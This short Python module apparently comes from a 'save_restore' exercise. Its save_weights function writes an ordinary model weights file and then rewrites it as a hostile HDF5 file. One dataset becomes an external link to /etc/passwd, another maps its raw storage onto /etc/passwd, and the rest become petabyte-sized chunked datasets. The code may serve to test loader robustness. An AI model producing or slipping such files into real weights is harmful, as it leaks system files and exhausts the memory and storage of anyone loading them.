"""Saves weights files whose datasets lie in other files, or are a petabyte of nothing."""

import h5py

EXERCISE = "save_restore"
HONEST_POINTS = 0


def save_weights(model, path):
    model.save_weights(path)
    with h5py.File(path, "r+") as file:
        groups = []
        file.visititems(
            lambda name, thing: groups.append(name) if name.endswith("vars/0") else None
        )
        for number, name in enumerate(groups):
            shape, kind = file[name].shape, file[name].dtype
            del file[name]
            if number == 0:
                file[name] = h5py.ExternalLink("/etc/passwd", "/")
            elif number == 1:
                file.create_dataset(name, shape, kind, external=[("/etc/passwd", 0, 10**6)])
            else:
                file.create_dataset(name, (2**50,), "f4", chunks=(2**16,))
